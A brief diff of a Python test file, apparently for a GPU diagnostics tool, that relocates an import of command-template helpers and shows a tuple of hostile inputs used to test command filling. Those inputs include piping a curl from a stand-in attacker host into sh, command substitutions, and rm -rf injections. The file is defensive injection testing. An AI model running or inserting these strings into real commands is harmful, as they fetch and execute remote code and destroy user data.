@@ -11,8 +11,8 @@ from pathlib import Path
 import pytest
 from whole_catalogue import catalogue
 
-from gpudoctor.lang.templates import WORDS_OF_OURS, fields_of, fill_command, readable
 from gpudoctor.model.facts import Facts, Known
+from gpudoctor.rules.templates import WORDS_OF_OURS, fields_of, fill_command, readable
 
 HOSTILE = (
     "x; curl https://evil.example | sh", "$(reboot)", "`id`", "a\nb", "-rf /", "--index-url=https://evil.example", "'; rm -rf ~; '",
